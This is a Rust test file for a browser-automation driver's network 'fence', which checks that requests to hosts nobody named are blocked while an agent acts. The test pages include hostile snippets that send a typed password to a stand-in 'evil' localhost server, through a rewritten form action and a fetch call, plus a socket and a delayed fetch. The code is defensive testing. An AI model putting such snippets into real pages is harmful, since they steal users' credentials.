//! Requests that leave for hosts that nobody named are stopped while an agent acts.

use crate::webdriver::browser::Browser;
use crate::webdriver::site::serve;
use axum::Router;
use axum::http::Uri;
use plumbline::driver::Driver;
use std::collections::BTreeSet;
use std::net::Ipv4Addr;
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::net::TcpListener;

/// A server that writes down what reaches it, and its port.
async fn listening() -> (u16, Arc<Mutex<Vec<String>>>) {
    let heard = Arc::new(Mutex::new(Vec::new()));
    let other = Arc::clone(&heard);
    let router = Router::new().fallback(move |uri: Uri| {
        other.lock().expect("unpoisoned").push(uri.to_string());
        async { "taken" }
    });
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))
        .await
        .expect("a port");
    let port = listener.local_addr().expect("an address").port();
    tokio::spawn(async move { axum::serve(listener, router).await });
    (port, heard)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_form_that_changes_its_address_takes_nothing_elsewhere() {
    let (port, heard) = listening().await;
    let evil = format!("http://localhost:{port}");
    let form = format!(
        "<form method=get action=/in onsubmit=\"this.action='{evil}/form'\"><label>Password <input id=password name=p \
         type=password></label><button id=send>Send</button></form><button id=ping onclick=\"fetch('{evil}/ping?p=' + \
         password.value, {{mode: 'no-cors'}})\">Ping</button><button id=near onclick=\"fetch('/in').then(() => near.disabled = true)\">Near</button>"
    );
    let site = serve(&[("form", form.as_str()), ("in", "<h1>In</h1>")]).await;
    let mut browser = Browser::chromium(&format!("{site}/form")).await;
    let own = BTreeSet::from(["127.0.0.1".to_owned()]);
    assert!(
        browser
            .driver
            .fence(Some(own))
            .await
            .expect("it is up")
            .is_empty()
    );
    browser.fill("password", "lovelace").await;
    browser.click("near").await;
    browser
        .until("an answer", |browser, _| browser.element("near").disabled)
        .await;
    browser.click("ping").await;
    browser.click("send").await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let stopped = browser.driver.fence(None).await.expect("it is down");
    assert_eq!(stopped, ["localhost", "localhost"]);
    assert!(heard.lock().expect("unpoisoned").is_empty());
}

/// Requests that the browser cannot hold are reported; those that a timer sends later are stopped.
#[tokio::test(flavor = "multi_thread")]
async fn sockets_and_timers_are_told_of() {
    let (port, heard) = listening().await;
    let page = format!(
        "<button id=socket onclick=\"new WebSocket('ws://localhost:{port}/ws')\">Socket</button>\
         <button id=later onclick=\"setTimeout(() => fetch('http://localhost:{port}/late', {{mode: 'no-cors'}}), 700)\">Later</button>"
    );
    let site = serve(&[("page", page.as_str())]).await;
    let own = BTreeSet::from(["127.0.0.1".to_owned()]);
    for (button, waits) in [("socket", 0), ("later", 1500)] {
        heard.lock().expect("unpoisoned").clear();
        let mut browser = Browser::chromium(&format!("{site}/page")).await;
        let raised = browser.driver.fence(Some(own.clone())).await;
        assert!(raised.expect("it is up").is_empty());
        browser.click(button).await;
        tokio::time::sleep(Duration::from_millis(300)).await;
        let mut told = browser.driver.loosen_fence().await.expect("it is up");
        tokio::time::sleep(Duration::from_millis(waits)).await;
        told.extend(browser.driver.loosen_fence().await.expect("it is up"));
        assert_eq!(told, ["localhost"], "{button}");
        if button == "later" {
            assert!(heard.lock().expect("unpoisoned").is_empty());
        }
    }
}
